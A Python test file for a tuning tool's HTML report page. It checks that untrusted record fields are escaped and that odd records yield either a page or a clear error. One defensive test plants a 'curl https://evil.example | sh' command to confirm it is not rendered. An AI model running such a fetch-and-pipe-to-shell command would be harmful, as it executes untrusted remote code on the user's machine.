"""The page of a tuning is made from its record alone, which may come from anybody."""

import copy
import json
import re
from dataclasses import asdict
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wavemore.comparison.evidence import SideLosses, judge
from wavemore.errors import RunError
from wavemore.reports.report import report, subject
from wavemore.reports.tune_page import tune_page


def losses(nats: float) -> SideLosses:
    return SideLosses(np.stack([np.full(30, nats) + np.arange(30.0) / 100, np.full(30, nats + 0.01)]))


def finalist(trial: int, nats: float) -> dict[str, Any]:
    return {
        "trial": trial,
        "experiment": f"tune-x-trial-{trial}",
        "description": "lstm <b>24/118</b> muon",
        "settings": {"hidden": 118, "dilations": [1, 2], "learning_rate": 0.0812},
        "command": ["wavemore", "train", "a list.txt", "--hidden", "118"],
        "parameters": 76_000,
        "steps": 1_000,
        "search_val": nats - 0.01,
        "train_seconds": 14.2,
        "paths": ["runs/x"],
        "runs": [{"seed": seed, "val_nats": nats + seed / 1000, "seconds": 14.0} for seed in (1, 2)],
    }


def trial(number: int) -> dict[str, Any]:
    pruned = number % 4 == 0
    return {
        "number": number,
        "state": "pruned" if pruned else "complete",
        "model": "lstm" if number % 3 else "tree",
        "val_nats": None if pruned else 2 + number / 100,
        "losses": {"1": 2.5, "2": 2.2},
        "values": {"learning_rate": 0.01 * number, "fuse": "2x2", "hidden": number},
        "parameters": 70_000,
        "train_seconds": 14.0,
        "elapsed": 3.0 * number,
        "why": "failed: <i>the loss is not finite</i>" if number == 4 else "",
        "failed": number == 4,
    }


RECORD: dict[str, Any] = {
    "format": 1,
    "name": "tune-x",
    "command": ["wavemore", "tune", "x"],
    "data": {
        "name": "<x>",
        "sha256": "0",
        "format": "lines",
        "description": "<x> split 1",
        "split": "distinct, seed 1",
    },
    "search": {
        "models": ["lstm", "tree"],
        "default": "lstm",
        "max_parameters": 76_579,
        "max_seconds": 15.0,
        "seconds": 15.0,
        "seed": 0,
    },
    "winner": 5,
    "finalists": [finalist(5, 1.94), finalist(1, 1.96)],
    "comparisons": [{"trial": 1, "outcome": asdict(judge(losses(2.0), losses(1.9), np.full(30, 5.0))), "p": 0.001}],
    "curse": {"trial": 5, "search": 1.93, "fresh": 1.94, "of_repeats": 0.0004},
    "importance": {"model": "lstm", "values": {"learning_rate": 0.7, "hidden": 0.3}},
    "ranges": {"lstm.learning_rate": True, "lstm.hidden": False, "lstm.fuse": None},
    "trials": [trial(number) for number in range(1, 26)],
    "environment": {"cpu": "c", "torch": "2", "wavemore": "0"},
    "finished": "2026-01-01T00:00:00",
    "seconds": 1200.0,
}


def test_a_page_says_what_was_found() -> None:
    html = tune_page(RECORD)
    assert "<h1>Better settings for &lt;x&gt;</h1>" in html
    assert "below the defaults by" in html  # whether that is better is for the verdict to say
    assert "Trials of lstm, the winner&#x27;s kind: 17." in html
    assert "below the defaults by" not in tune_page({**RECORD, "finalists": [finalist(1, 1.94)], "comparisons": []})
    assert "Trial 5 is better than the defaults (trial 1) by " in html
    assert "so the search made it look 0.0100 too good" in html
    assert "wavemore train &#x27;a list.txt&#x27; --hidden 118" in html
    assert "6 of 25 trials were pruned, 1 after a failure." in html
    assert "Failed: failed: &lt;i&gt;the loss is not finite&lt;/i&gt;" in html
    assert html.count("<figure>") == 3
    assert re.search(r"<td[^>]*>the defaults \(trial 1\)</td>", html)
    assert "<b>24" not in html
    assert "<script" not in html


def test_a_page_of_few_trials_has_no_importance() -> None:
    few = {**RECORD, "trials": RECORD["trials"][:3], "importance": {"model": "lstm", "values": {}}, "curse": None}
    html = tune_page(few)
    assert "Fewer than ten trials of lstm" in html
    assert html.count("<figure>") == 2
    assert "Winner&#x27;s curse" not in html


def test_only_a_command_of_wavemore_is_shown() -> None:
    strange = copy.deepcopy(RECORD)
    strange["finalists"][0]["command"] = ["curl", "https://evil.example", "|", "sh"]
    assert "evil.example" not in tune_page(strange)


def test_a_tuning_is_found_by_its_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("runs/tune-x").mkdir(parents=True)
    Path("runs/tune-x/tune.json").write_text(json.dumps(RECORD), encoding="utf-8")
    assert subject("tune-x") == Path("runs/tune-x")
    assert report(Path("runs/tune-x")) == tune_page(json.loads(json.dumps(RECORD)))
    Path("runs/tune-x/tune.json").write_text("{}", encoding="utf-8")
    with pytest.raises(RunError, match="has format None"):
        report(Path("runs/tune-x"))


ODD: list[Any] = [None, True, -3, 0, 7, 1e90, "", "<i>", [], {}, {"a": 1}, [None]]


def places(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    items = value.items() if isinstance(value, dict) else enumerate(value[:2]) if isinstance(value, list) else ()
    return [path, *(place for key, item in items for place in places(item, (*path, key)))]


@pytest.mark.slow
@settings(max_examples=60)
@given(place=st.sampled_from(places(RECORD)[1:]), odd=st.sampled_from(ODD))
def test_a_strange_record_gives_a_page_or_an_error(place: tuple[Any, ...], odd: Any) -> None:
    strange = copy.deepcopy(RECORD)
    inner = strange
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = odd
    html, said = "", ""
    try:
        html = tune_page(strange)
    except RunError as error:
        said = str(error)  # for the terminal, which knows no markup
    assert "<i>" not in html
    assert html or said.endswith("; `wavemore tune` makes it again from the runs")
